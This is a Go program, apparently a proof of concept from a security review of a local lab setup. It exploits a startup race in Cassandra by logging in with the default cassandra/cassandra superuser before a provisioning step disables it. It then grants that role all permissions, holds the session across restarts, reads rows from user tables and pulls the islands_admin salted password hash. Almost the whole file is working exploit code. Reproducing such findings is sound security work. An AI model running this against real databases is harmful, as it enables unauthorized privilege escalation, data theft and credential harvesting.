// Command attacksecracer is a security-review reproduction: run as an unprivileged local user, it
// waits for a Cassandra node of the local world to (re)start, logs in as cassandra/cassandra in the
// window before `islands-lab roles` closes the default superuser, grants that role every permission,
// keeps the session open, and then reads what it can.
package main

import (
	"crypto/tls"
	"fmt"
	"net"
	"os"
	"strings"
	"time"

	"github.com/gocql/gocql"
)

func logf(f string, a ...any) {
	fmt.Printf(time.Now().UTC().Format("15:04:05.000")+" "+f+"\n", a...)
}

func main() {
	addr := os.Args[1]
	// 1. wait for the port to close (down), then to open again.
	sawDown := len(os.Args) > 2 && os.Args[2] == "now"
	for !sawDown {
		c, err := net.DialTimeout("tcp", addr, time.Second)
		if err != nil {
			sawDown = true
			logf("%s down", addr)
			break
		}
		c.Close()
		time.Sleep(500 * time.Millisecond)
	}
	var s *gocql.Session
	deadline := time.Now().Add(30 * time.Minute)
	tries := 0
	for time.Now().Before(deadline) {
		c, err := net.DialTimeout("tcp", addr, time.Second)
		if err != nil {
			time.Sleep(200 * time.Millisecond)
			continue
		}
		c.Close()
		host, port, _ := net.SplitHostPort(addr)
		cl := gocql.NewCluster(host)
		fmt.Sscan(port, &cl.Port)
		cl.DisableInitialHostLookup = true
		cl.ConnectTimeout = 2 * time.Second
		cl.Timeout = 5 * time.Second
		cl.NumConns = 1
		cl.Logger = nil
		cl.Authenticator = gocql.PasswordAuthenticator{Username: "cassandra", Password: "cassandra"}
		cl.SslOpts = &gocql.SslOptions{Config: &tls.Config{InsecureSkipVerify: true}}
		s, err = cl.CreateSession()
		tries++
		if err == nil {
			break
		}
		if tries%20 == 1 {
			logf("try %d: %v", tries, err)
		}
		time.Sleep(150 * time.Millisecond)
	}
	if s == nil {
		logf("never got in")
		return
	}
	logf("IN as cassandra/cassandra after %d tries", tries)
	for _, st := range []string{
		"GRANT ALL PERMISSIONS ON ALL KEYSPACES TO cassandra",
		"GRANT ALL PERMISSIONS ON ALL ROLES TO cassandra",
	} {
		logf("%s: %v", st, s.Query(st).Exec())
	}
	// 2. hold the session, and every 10 s list the keyspaces and read a few rows of each table.
	granted := true
	for i := 0; ; i++ {
		// gocql reconnects by itself when the node comes back (a later down and up): its new
		// connections log in as cassandra/cassandra in that up's window too. Grant again each
		// second; it lands only while cassandra is still a superuser.
		err := s.Query("GRANT ALL PERMISSIONS ON ALL KEYSPACES TO cassandra").Exec()
		if (err == nil) != granted {
			granted = err == nil
			logf("GRANT ALL PERMISSIONS ON ALL KEYSPACES TO cassandra: %v", err)
		}
		if i%10 != 0 {
			time.Sleep(time.Second)
			continue
		}
		var ks, tb string
		it := s.Query("SELECT keyspace_name, table_name FROM system_schema.tables").Iter()
		var tables []string
		for it.Scan(&ks, &tb) {
			if !strings.HasPrefix(ks, "system") {
				tables = append(tables, ks+"."+tb)
			}
		}
		if err := it.Close(); err != nil {
			logf("schema: %v", err)
		}
		var super bool
		var login bool
		err = s.Query("SELECT is_superuser, can_login FROM system_auth.roles WHERE role = 'cassandra'").Scan(&super, &login)
		logf("round %d: cassandra role super=%v login=%v (%v); %d tables", i, super, login, err, len(tables))
		read := 0
		for _, t := range tables {
			if read >= 4 {
				break
			}
			m := map[string]any{}
			it := s.Query("SELECT * FROM " + t + " LIMIT 1").Iter()
			if it.MapScan(m) {
				logf("  READ %s: %.200v", t, m)
				read++
			}
			if err := it.Close(); err != nil && i%6 == 0 {
				logf("  %s: %v", t, err)
			}
		}
		var hash string
		if err := s.Query("SELECT salted_hash FROM system_auth.roles WHERE role = 'islands_admin'").Scan(&hash); err == nil {
			logf("  islands_admin salted_hash: %.12s…", hash)
		}
		time.Sleep(time.Second)
	}
}
